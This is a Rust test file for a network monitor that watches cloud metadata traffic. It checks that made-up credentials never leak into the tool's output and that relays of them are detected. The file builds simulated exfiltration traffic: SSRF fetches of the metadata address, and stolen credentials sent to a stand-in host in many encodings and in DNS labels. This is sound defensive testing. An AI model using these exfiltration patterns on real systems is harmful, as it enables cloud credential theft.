//! No secret value of any capture appears in anything that is written, whatever the settings.
//!
//! The values: those of the bundled captures stand here (all made up); the captures of the corpus, where it is there, bring theirs.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr,
    reason = "tests fail by panicking"
)]

mod common;

use std::collections::HashMap;
use std::fs;
use std::path::{Path, PathBuf};

use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD, Engine};
use common::wire::{Wire, events};
use common::{config_with, corpus, root, run};
use imdswatch::config::Config;

/// Values, or beginnings of values, that metadata services of the bundled captures gave out.
const SECRETS: &[&str] = &[
    "wJalrXUtnFEMI/K7MDENG",
    "K7MDENG/bPxRfiCYEXAMPLEKEY",
    "IQoJb3JpZ2luX2VjEXAMPLE",
    "FAKEFAKEFAKEexample/FAKEFAKE",
    "fakeFAKEfake0fakeFAKEfake0",
];

/// Settings that write as much as there is.
const LOUD: &str = r#"
[http]
send_all_headers = true
redact_authorization = false
split_cookie = true
include_body_for = ["text", "json", "html", "xml", "form", "octet-stream", "application/json", "text/plain"]
send_request = true
send_response = true
[dns]
include_authorities = true
include_additionals = true
send_request = true
send_response = true
"#;

/// The two that differ most from each other, then the others.
fn settings() -> Vec<(&'static str, Config)> {
    vec![
        ("all, loud", config_with(&["-e", "all"], LOUD)),
        ("metadata, two workers", config_with(&["-e", "metadata", "--threads", "2"], "")),
        ("all", config_with(&["-e", "all"], "")),
        ("metadata, loud", config_with(&["-e", "metadata"], LOUD)),
        ("alerts", config_with(&["-e", "alerts"], "")),
        ("all, loud, network_traffic", config_with(&["-e", "all", "--profile", "network_traffic"], LOUD)),
    ]
}

/// Where one of `secrets` appears in what is written about `input`.
fn leaks(input: &Path, secrets: &[String], settings: &[(&str, Config)]) -> Vec<String> {
    let mut leaks = Vec::new();
    for (name, config) in settings {
        let (written, report) = run(config, &[input.to_owned()]);
        let mut summary = Vec::new();
        report.print(&mut summary).unwrap();
        summary.extend_from_slice(report.suggestions().as_bytes());
        let html = html(&written.json);
        for (form, bytes) in
            [("NDJSON", &written.json), ("text", &written.text), ("summary", &summary), ("report", &html)]
        {
            let text = String::from_utf8_lossy(bytes);
            let lines = text.lines().filter(|line| secrets.iter().any(|secret| line.contains(secret.as_str())));
            leaks.extend(lines.map(|line| {
                let at = secrets.iter().filter_map(|secret| line.find(secret.as_str())).min().unwrap_or(0);
                let from = line.char_indices().map(|(at, _)| at).rfind(|i| *i + 60 <= at).unwrap_or(0);
                let part: String = line[from..].chars().take(140).collect();
                format!("{}: {name}: {form}: …{part}…", input.display())
            }));
        }
    }
    leaks
}

/// The report of events as they were written.
fn html(events: &[u8]) -> Vec<u8> {
    let mut collector = imdswatch::report::Collector::default();
    for line in events.split(|byte| *byte == b'\n') {
        collector.line(line).unwrap();
    }
    collector.html().unwrap().into_bytes()
}

fn assert_silent(inputs: impl IntoIterator<Item = PathBuf>, secrets: &[String], settings: &[(&str, Config)]) {
    let leaks: Vec<_> = inputs.into_iter().flat_map(|input| leaks(&input, secrets, settings)).collect();
    assert!(leaks.is_empty(), "{} leaks:\n{}", leaks.len(), leaks.join("\n"));
}

#[test]
fn bundled_captures_keep_their_secrets() {
    let secrets: Vec<_> = SECRETS.iter().map(|&secret| secret.to_owned()).collect();
    let cases = common::cases();
    let holding = cases.iter().filter(|case| {
        let bytes = fs::read(root().join(&case.input)).unwrap();
        secrets.iter().any(|secret| bytes.windows(secret.len()).any(|part| part == secret.as_bytes()))
    });
    assert!(holding.count() > 30, "the captures hold what is looked for");
    assert_silent(cases.iter().map(|case| root().join(&case.input)), &secrets, &settings());
}

#[test]
fn captures_outside_the_project_keep_their_secrets() {
    let Some(captures) = corpus("captures") else { return };
    let secrets = fs::read_to_string(captures.join("secrets.txt")).unwrap();
    let secrets: Vec<_> = secrets.lines().map(str::to_owned).filter(|line| !line.is_empty()).collect();
    let mut files = Vec::new();
    let mut folders = vec![captures];
    while let Some(folder) = folders.pop() {
        for path in fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()) {
            if path.is_dir() { folders.push(path) } else { files.push(path) }
        }
    }
    files.retain(|path| path.to_string_lossy().contains(".pcap"));
    files.sort();
    assert_silent(files, &secrets, &settings()[..2]);
}

/// What a secret may be written as. Each is a name, and the secret in that encoding.
fn spellings(secret: &str) -> Vec<(&'static str, Vec<u8>)> {
    let bytes = secret.as_bytes();
    let each = |spell: &dyn Fn(u8) -> String| secret.bytes().map(spell).collect::<String>().into_bytes();
    let special = |byte: u8, spelt: String| if byte.is_ascii_alphanumeric() { char::from(byte).into() } else { spelt };
    let percent = each(&|byte| special(byte, format!("%{byte:02X}")));
    let base64 = BASE64_STANDARD.encode(bytes);
    let in_json = format!("{{\"a\":\"{secret}\"}}");
    let lines: Vec<_> = BASE64_STANDARD.encode(format!("some text before it: {secret}, and some behind")).into_bytes();
    vec![
        ("as it is", bytes.to_vec()),
        ("16 characters from its middle", bytes[bytes.len() / 2 - 8..bytes.len() / 2 + 8].to_vec()),
        ("all but the first 16", bytes[16.min(bytes.len() - 16)..].to_vec()),
        ("percent", percent.clone()),
        (
            "percent twice",
            percent
                .iter()
                .map(|byte| char::from(*byte).to_string().replace('%', "%25"))
                .collect::<String>()
                .into_bytes(),
        ),
        ("percent throughout", each(&|byte| format!("%{byte:02x}"))),
        ("JSON", each(&|byte| if byte == b'/' { "\\/".into() } else { char::from(byte).into() })),
        ("JSON, code points", each(&|byte| special(byte, format!("\\u{byte:04x}")))),
        ("HTML, decimal", each(&|byte| special(byte, format!("&#{byte};")))),
        ("HTML, hexadecimal throughout", each(&|byte| format!("&#x{byte:x};"))),
        ("base64", base64.clone().into_bytes()),
        ("base64 for URLs, behind one byte", BASE64_URL_SAFE_NO_PAD.encode(format!("k{secret}")).into_bytes()),
        ("base64, behind two bytes", BASE64_STANDARD.encode(format!("k={secret} ")).into_bytes()),
        ("base64 of JSON", BASE64_STANDARD.encode(in_json).into_bytes()),
        ("base64 of base64", BASE64_STANDARD.encode(base64).into_bytes()),
        ("base64 in lines", lines.chunks(60).collect::<Vec<_>>().join(&b"\r\n"[..])),
        (
            "base64 of UTF-16",
            BASE64_STANDARD.encode(secret.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>()).into_bytes(),
        ),
        ("hex", each(&|byte| format!("{byte:02x}"))),
        ("upper-case hex", each(&|byte| format!("{byte:02X}"))),
        ("base32", base32(bytes).into_bytes()),
        ("lower-case base32, behind three bytes", base32(&[b"abc", bytes].concat()).to_lowercase().into_bytes()),
        ("UTF-16", secret.encode_utf16().flat_map(u16::to_be_bytes).collect()),
    ]
}

fn base32(bytes: &[u8]) -> String {
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let bits: Vec<u8> = bytes.iter().flat_map(|byte| (0..8).rev().map(move |bit| byte >> bit & 1)).collect();
    let digit = |bits: &[u8]| (0..5).fold(0, |sum, at| sum << 1 | usize::from(bits.get(at).copied().unwrap_or(0)));
    bits.chunks(5).map(|bits| char::from(alphabet[digit(bits)])).collect()
}

/// Every spelling of 16 characters in a row of the secrets that may not be written, by its first eight bytes.
struct Forbidden(HashMap<[u8; 8], Vec<(Vec<u8>, String)>>);

impl Forbidden {
    fn new(secrets: &[(&str, String)]) -> Self {
        let mut all: HashMap<[u8; 8], Vec<(Vec<u8>, String)>> = HashMap::new();
        for (name, secret) in secrets {
            for part in secret.as_bytes().windows(16).filter(|part| !part.contains(&b'\n')) {
                for (how, form) in Self::forms(part) {
                    let first = *form.first_chunk().unwrap();
                    all.entry(first).or_default().push((form, format!("{name}, {how}")));
                }
            }
        }
        Self(all)
    }

    /// What 16 characters look like, whatever stands beside them.
    fn forms(part: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
        let each = |spell: &dyn Fn(u8) -> String| part.iter().map(|byte| spell(*byte)).collect::<String>().into_bytes();
        let special =
            |byte: u8, spelt: String| if byte.is_ascii_alphanumeric() { char::from(byte).into() } else { spelt };
        let mut out = vec![
            ("as it is", part.to_vec()),
            ("percent", each(&|byte| special(byte, format!("%{byte:02X}")))),
            ("percent throughout", each(&|byte| format!("%{byte:02x}"))),
            ("escaped slash", each(&|byte| if byte == b'/' { "\\\\/".into() } else { char::from(byte).into() })),
            ("code points", each(&|byte| special(byte, format!("\\\\u{byte:04x}")))),
            ("HTML", each(&|byte| special(byte, format!("&#{byte};")))),
            ("HTML throughout", each(&|byte| format!("&#x{byte:x};"))),
            ("hex", each(&|byte| format!("{byte:02x}"))),
            ("upper-case hex", each(&|byte| format!("{byte:02X}"))),
            ("UTF-16", each(&|byte| format!("\\u0000{}", char::from(byte)))),
        ];
        for skip in 0..3usize {
            let text = BASE64_STANDARD.encode([&vec![0; skip][..], part].concat());
            let own = (skip * 8).div_ceil(6)..(skip + 16) * 8 / 6;
            out.push(("base64", text.as_bytes()[own.clone()].to_vec()));
            out.push(("base64 for URLs", text.replace('+', "-").replace('/', "_").as_bytes()[own].to_vec()));
        }
        for skip in 0..5usize {
            let own = (skip * 8).div_ceil(5)..(skip + 16) * 8 / 5;
            let text = base32(&[&vec![0; skip][..], part].concat());
            out.push(("base32", text.as_bytes()[own.clone()].to_vec()));
            out.push(("lower-case base32", text.to_lowercase().as_bytes()[own].to_vec()));
        }
        out
    }

    fn found_in(&self, line: &str) -> Vec<String> {
        let mut out = Vec::new();
        for (at, start) in line.as_bytes().windows(8).enumerate() {
            let Some(forms) = self.0.get(start) else { continue };
            let here = forms.iter().find(|(form, _)| line.as_bytes()[at..].starts_with(form));
            if let Some((form, what)) = here {
                let from = line.floor_char_boundary(at.saturating_sub(60));
                out.push(format!("{what}: …{}", &line[from..line.ceil_char_boundary(at + form.len())]));
            }
        }
        out
    }
}

/// Secrets of every kind that the catalogue knows, with the exchange that gives each out.
fn issued(wire: &mut Wire) -> Vec<(&'static str, String)> {
    let mut seed = 7u64;
    let mut random = |len: usize, marks: &str| {
        let alphabet = format!("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789{marks}");
        let mut next = || {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            char::from(alphabet.as_bytes()[(seed >> 33) as usize % alphabet.len()])
        };
        (0..len).map(|_| next()).collect::<String>()
    };
    let key = random(40, "+/");
    let session = format!("IQoJb3JpZ2luX2Vj{}==", random(190, "+/"));
    let token = format!("AQAEA{}==", random(49, "-_"));
    let azure = format!("eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJo{}.{}", random(120, ""), random(86, "-_"));
    let google = format!("ya29.c.{}", random(120, "-_"));
    let (alibaba, sts) = (random(44, ""), format!("CAIS{}", random(100, "+/")));
    let (tencent, cam) = (random(32, ""), random(90, "-_"));
    let private = format!("MIIEpAIBAAKCAQEA{}", random(280, "+/"));
    let lines: Vec<_> = private.as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line)).collect();
    let pem = format!("-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n", lines.join("\n"));

    let mut ask = |server: &str, request: &str, body: &str| {
        let answer = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len());
        wire.exchange("10.20.0.10", server, format!("{request}\r\n\r\n").as_bytes(), answer.as_bytes());
    };
    let imds = "169.254.169.254:80";
    let host = "\r\nHost: 169.254.169.254";
    ask(
        imds,
        &format!(
            "PUT /latest/api/token HTTP/1.1{host}\r\nX-aws-ec2-metadata-token-ttl-seconds: 21600\r\nContent-Length: 0"
        ),
        &token,
    );
    ask(
        imds,
        &format!(
            "GET /latest/meta-data/iam/security-credentials/role HTTP/1.1{host}\r\nX-aws-ec2-metadata-token: {token}"
        ),
        &format!(
            r#"{{"Code":"Success","AccessKeyId":"ASIAEXAMPLE000DEMO01","SecretAccessKey":"{key}","Token":"{session}","Expiration":"2026-11-24T20:00:00Z"}}"#
        ),
    );
    ask(
        imds,
        &format!(
            "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=r HTTP/1.1{host}\r\nMetadata: true"
        ),
        &format!(
            r#"{{"access_token":"{azure}","client_id":"1","expires_on":"1795576766","resource":"r","token_type":"Bearer"}}"#
        ),
    );
    ask(
        imds,
        "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\nHost: metadata.google.internal\r\nMetadata-Flavor: Google",
        &format!(r#"{{"access_token":"{google}","expires_in":3599,"token_type":"Bearer"}}"#),
    );
    ask(
        "100.100.100.200:80",
        "GET /latest/meta-data/ram/security-credentials/role HTTP/1.1\r\nHost: 100.100.100.200",
        &format!(
            r#"{{"Code":"Success","AccessKeyId":"STS.NUexample0000000","AccessKeySecret":"{alibaba}","SecurityToken":"{sts}","Expiration":"2026-11-24T09:20:57Z"}}"#
        ),
    );
    ask(
        "169.254.0.23:80",
        "GET /latest/meta-data/cam/security-credentials/role HTTP/1.1\r\nHost: metadata.tencentyun.com",
        &format!(
            r#"{{"TmpSecretId":"AKIDexample","TmpSecretKey":"{tencent}","ExpiredTime":1795576766,"Token":"{cam}","Code":"Success"}}"#
        ),
    );
    ask(imds, &format!("GET /opc/v2/identity/key.pem HTTP/1.1{host}\r\nAuthorization: Bearer Oracle"), &pem);
    vec![
        ("AWS key", key),
        ("AWS session token", session),
        ("AWS metadata token", token),
        ("Azure token", azure),
        ("Google token", google),
        ("Alibaba key", alibaba),
        ("Alibaba token", sts),
        ("Tencent key", tencent),
        ("Tencent token", cam),
        ("Oracle private key", lines[..2].concat()),
    ]
}

/// Exchanges with `value` in every place. The number of places.
fn places(wire: &mut Wire, value: &[u8]) -> usize {
    let one_line =
        |value: &[u8]| value.iter().filter(|byte| !matches!(byte, b'\r' | b'\n')).copied().collect::<Vec<_>>();
    let value_in_head = one_line(value);
    let text = |head: &str| head.replace('\n', "\r\n").into_bytes();
    let fill = |template: &[u8], value: &[u8]| {
        let mut out = Vec::new();
        let mut parts = template.split(|byte| *byte == b'~');
        out.extend_from_slice(parts.next().unwrap());
        for part in parts {
            out.extend_from_slice(value);
            out.extend_from_slice(part);
        }
        out
    };
    let body = fill(b"{\"loot\": \"~\", \"n\": 1}\nk=~&l=2 <b>~</b>", value);
    let with_body = |head: Vec<u8>| {
        let length = format!("Content-Length: {}\r\n\r\n", body.len());
        [&head, length.as_bytes(), &body].concat()
    };
    let heads = [
        // target, headers, body
        "POST /drop/~/x?q=~&~=1#~ HTTP/1.1\nHost: drop.example\nX-Loot: ~\nX-~: 1\nCookie: a=~; b=2\nReferer: http://x/~\nUser-Agent: agent ~\nContent-Type: text/plain\n",
        // userinfo, a proxied request
        "POST http://user:~@drop.example/~ HTTP/1.1\nHost: drop.example\nX-Forwarded-For: ~\nContent-Type: application/json\n",
        // a form
        "POST /form HTTP/1.1\nHost: drop.example\nContent-Type: application/x-www-form-urlencoded\n",
    ];
    let answer = "HTTP/1.1 200 Fine ~\nSet-Cookie: s=~\nLocation: http://drop.example/~\nContent-Type: text/html\n";
    for head in heads {
        let request = with_body(fill(&text(head), &value_in_head));
        wire.exchange("10.20.0.10", "203.0.113.66:80", &request, &with_body(fill(&text(answer), &value_in_head)));
    }
    // in the name of a role, and in a URL that a server is asked to fetch
    for target in ["/latest/meta-data/iam/security-credentials/~", "/latest/~/x?~"] {
        let request =
            fill(&text(&format!("GET {target} HTTP/1.1\nHost: 169.254.169.254\nUser-Agent: ~\n\n")), &value_in_head);
        wire.exchange(
            "10.20.0.10",
            "169.254.169.254:80",
            &request,
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
        );
    }
    let fetch = "GET /fetch?u=http://169.254.169.254/latest/~ HTTP/1.1\nHost: drop.example\n\n";
    wire.exchange(
        "198.51.100.7",
        "10.20.0.10:80",
        &fill(&text(fetch), &value_in_head),
        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    );
    // labels of names, in Host and DNS
    if value.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_')) {
        for label in [16, 30, 63] {
            let labels: Vec<_> =
                value.chunks(label).take(200 / (label + 1)).map(|label| String::from_utf8_lossy(label)).collect();
            let name = format!("{}.drop.example", labels.join("."));
            wire.lookup("10.20.0.10", &name, &["203.0.113.66".parse().unwrap()]);
            let request = format!("GET / HTTP/1.1\r\nHost: {name}\r\n\r\n");
            wire.exchange(
                "10.20.0.10",
                "203.0.113.66:80",
                request.as_bytes(),
                b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
            );
        }
    }
    29
}

/// Every kind of secret, in every encoding, at every place, under settings that write much and others.
#[test]
fn no_sixteen_characters_of_a_secret_are_written_in_any_encoding_at_any_place() {
    let settings = [
        ("all, loud", config_with(&["-e", "all"], LOUD)),
        ("metadata", config_with(&["-e", "metadata"], "")),
        ("alerts, loud, network_traffic", config_with(&["-e", "alerts", "--profile", "network_traffic"], LOUD)),
    ];
    let (mut tried, mut leaks, mut missed) = (0, Vec::new(), Vec::new());
    for (settings, config) in &settings {
        let mut wire = Wire::default();
        let secrets = issued(&mut wire);
        let forbidden = Forbidden::new(&secrets);
        assert!(wire.replay(config).lines().filter(|line| line.contains("imds-credential-issued")).count() >= 6);
        for (name, secret) in &secrets {
            let mut wire = Wire::default();
            issued(&mut wire);
            let spelt = spellings(secret);
            for (_, value) in &spelt {
                tried += places(&mut wire, value);
            }
            let output = wire.replay(config);
            for line in output.lines() {
                leaks.extend(forbidden.found_in(line).into_iter().map(|leak| format!("{settings}: {leak}")));
            }
            let relays = events(&output).iter().filter(|event| event["rule"]["id"] == "credential-relayed").count();
            // The metadata service's own token is no credential.
            if *name != "AWS metadata token" && relays < spelt.len() * 3 {
                missed.push(format!("{settings}: {name}: {relays} relays of {}", spelt.len() * 3));
            }
        }
    }
    eprintln!("{tried} secrets in an encoding at a place under settings");
    leaks.sort();
    leaks.dedup_by_key(|leak| leak.split('…').next().unwrap_or_default().to_owned());
    assert!(leaks.is_empty(), "{} kinds of leaks:\n{}", leaks.len(), leaks.join("\n"));
    assert!(missed.is_empty(), "{}", missed.join("\n"));
    assert!(tried > 15_000, "{tried}");
}
